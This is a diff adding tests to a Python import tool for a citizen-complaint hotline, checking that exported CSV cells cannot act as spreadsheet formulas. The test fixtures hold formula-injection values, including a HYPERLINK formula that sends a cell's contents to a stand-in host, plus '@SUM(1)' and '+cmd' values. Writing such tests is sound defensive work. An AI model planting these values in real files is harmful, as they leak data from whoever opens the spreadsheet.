@@ -18,6 +18,7 @@ from hotline.commands import import_
 from hotline.commands.launch.services import Services
 from hotline.commands.launch.words import Trouble
 from hotline.database import row, rows
+from hotline.rules.import_rows import cell_text
 
 HEADINGS = [
     "序号", "办件编号", "办件来源", "市级编号", "诉求主题", "诉求内容", "办理单位", "办理科室",
@@ -212,3 +213,22 @@ def _table(file: Path, lines: list[dict[str, str]], encoding: str = "utf-8") -> 
         writer.writeheader()
         writer.writerows(lines)
     return file
+
+
+async def test_no_word_of_a_reporter_is_a_formula_in_the_file_that_comes_back(
+    imports: Importer, tmp_path: Path
+) -> None:
+    hostile = '=HYPERLINK("http://made.up/?"&A1,"看")'
+    names = {"诉求人": "@SUM(1)", "诉求人电话": "+8613800000000", "诉求内容": ""}
+    done = await imports(_table(tmp_path / "a.csv", [{**GOOD, **names, "诉求主题": hostile}]))
+
+    (line,) = list(csv.DictReader(done.back.read_text("utf-8-sig").splitlines()))
+    cells = [cell for name, cell in line.items() if name != "原因"]
+    assert not any(cell.startswith(("=", "@")) for cell in cells)
+    assert "+8613800000000" in cells
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "@SUM(1)", "+cmd", "-1+cmd"])
+def test_what_was_marked_is_read_without_the_mark(cell: str) -> None:
+    assert cell_text(f"'{cell}") == cell
+    assert cell_text(f"'引号'{cell}") == f"'引号'{cell}"
